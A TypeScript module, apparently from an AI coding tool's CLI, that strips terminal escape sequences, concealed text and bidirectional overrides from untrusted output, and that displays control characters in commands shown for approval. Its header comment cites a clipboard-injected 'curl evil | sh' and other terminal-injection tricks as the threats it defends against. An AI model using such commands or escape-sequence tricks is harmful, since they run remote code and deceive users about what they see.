// The one sanitiser for text oac prints that it did not write itself: a model's reply and reasoning, tool output, file
// contents in diffs, search hits. A terminal obeys escape sequences wherever they come from: ESC[2J clears the screen,
// OSC 0 sets the window title, OSC 8 makes a link whose text lies about its target, OSC 52 writes the clipboard (a
// pasted `curl evil | sh`), and a bare \r or ESC[2K rewrites a line already shown. So untrusted text keeps only
// newlines and tabs (stripControls); oac's own styling is added after that, and at the point where lines reach the
// terminal, only SGR styling (colour, bold, dim) may pass (keepStyles). A command shown for approval is displayed with
// every control character made visible instead (showControls), so that what is approved is what runs.
//
// Sequences per ECMA-48 (https://ecma-international.org/publications-and-standards/standards/ecma-48/): CSI
// (ESC [ or C1 0x9B) parameters 0x30-0x3F, intermediates 0x20-0x2F, final 0x40-0x7E; control strings (OSC ESC ],
// DCS ESC P, SOS ESC X, PM ESC ^, APC ESC _, or their C1 forms) end at ST (ESC \ or 0x9C), or BEL for OSC (xterm).
// biome-ignore-start lint/suspicious/noControlCharactersInRegex: these patterns exist to find control characters
const CSI = /(?:\u001b\[|\u009b)[0-?]*[ -/]*[@-~]/g
const CONTROL_STRING = /(?:\u001b[\]PX^_]|[\u0090\u0098\u009d-\u009f])[^\u0007\u001b\u009c]*(?:\u0007|\u001b\\|\u009c)/g
const OTHER_ESCAPE = /\u001b[ -/]*[0-~]/g
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/g
const HAS_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/
const SGR = /\u001b\[[0-9;:]*m/g
// Bidirectional overrides and isolates: they reorder what a terminal shows (CVE-2021-42574, "Trojan Source").
const BIDI = /[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/g
// biome-ignore-end lint/suspicious/noControlCharactersInRegex: these patterns exist to find control characters

/** `text` with every escape sequence and control character removed, newlines (\r\n too) and tabs kept. */
export function stripControls(text: string): string {
  if (!HAS_CONTROL.test(text)) return text
  return text
    .replace(/\r\n/g, '\n')
    .replace(CONTROL_STRING, '')
    .replace(CSI, '')
    .replace(OTHER_ESCAPE, '')
    .replace(CONTROL, '')
}

/**
 * An SGR sequence without its "conceal" attribute (8: the text is there and invisible, so a log line or a reply can
 * hide what it says). Colour arguments are skipped, not read as attributes: 38;5;8 is grey, not concealed.
 */
function visibleSgr(seq: string): string {
  const params = seq.slice(2, -1).split(';')
  const kept: string[] = []
  for (let i = 0; i < params.length; i++) {
    const p = params[i] ?? ''
    if (['38', '48', '58'].includes(p)) {
      const n = params[i + 1] === '5' ? 2 : params[i + 1] === '2' ? 4 : 0
      kept.push(...params.slice(i, i + 1 + n))
      i += n
    } else if (p !== '8') kept.push(p)
  }
  if (!kept.length) return ''
  return `\u001b[${kept.join(';')}m`
}

/** Lines about to reach the terminal: oac's SGR styling kept, every other sequence and control character removed. */
export function keepStyles(text: string): string {
  if (!HAS_CONTROL.test(text)) return text
  let out = ''
  let at = 0
  for (const m of text.matchAll(SGR)) {
    out += stripControls(text.slice(at, m.index)) + visibleSgr(m[0])
    at = m.index + m[0].length
  }
  return out + stripControls(text.slice(at))
}

const NAMED: Record<string, string> = {
  '\u001b': '\\e',
  '\r': '\\r',
  '\b': '\\b',
  '\u0007': '\\a',
  '\f': '\\f',
  '\v': '\\v',
}

/** `text` with every control character (but newline), DEL, C1 and bidi control shown as an escape: `\e[2K`, `\r`. */
export function showControls(text: string): string {
  return text
    .replace(CONTROL, (c) => NAMED[c] ?? hex(c))
    .replace(/\t/g, '\\t')
    .replace(BIDI, (c) => hex(c))
}

// biome-ignore lint/suspicious/noControlCharactersInRegex: these patterns exist to find control characters
const C0_BUT_LINES = /[\u0000-\u0008\u000b-\u001f]/
const DEL_C1 = /[\u007f-\u009f]/g

/**
 * What a command prints, made safe for the terminal (every line of every oac command goes through it). JSON (what
 * --json prints) arrives with its C0 controls escaped already; its DEL and C1 characters become \u escapes, so the
 * data stays whole and valid. Anything else keeps oac's SGR styling and loses every other sequence (keepStyles).
 */
export function printable(text: string): string {
  if (/^\s*[[{"]/.test(text) && !C0_BUT_LINES.test(text))
    return text.replace(DEL_C1, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`)
  return keepStyles(text)
}

function hex(c: string): string {
  const code = c.charCodeAt(0)
  return code < 0x100 ? `\\x${code.toString(16).padStart(2, '0')}` : `\\u${code.toString(16).padStart(4, '0')}`
}

/** A copy of `value` (an event, a message) with every string in it passed through stripControls. */
export function stripControlsDeep<T>(value: T): T {
  if (typeof value === 'string') return stripControls(value) as T
  if (Array.isArray(value)) return value.map(stripControlsDeep) as T
  if (value && typeof value === 'object' && Object.getPrototypeOf(value) === Object.prototype) {
    const out: Record<string, unknown> = {}
    for (const [k, v] of Object.entries(value)) out[k] = stripControlsDeep(v)
    return out as T
  }
  return value
}
